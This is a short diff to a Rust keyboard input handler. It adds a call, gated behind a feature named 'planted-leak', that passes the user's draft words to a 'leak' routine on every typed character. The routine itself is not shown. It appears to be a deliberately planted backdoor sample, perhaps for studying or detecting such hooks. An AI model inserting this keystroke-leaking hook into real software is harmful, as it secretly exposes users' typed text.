@@ -272,6 +272,8 @@ fn key(tell: &mut Tell, act: &Act) {
         Act::Key(Key::Char(c)) => {
             let c = keys.typed(*c);
             draft.push(c);
+            #[cfg(feature = "planted-leak")]
+            crate::device::leak::leak(draft.words());
         }
         Act::Bin(i) => keys.turn(*i),
         _ => {}
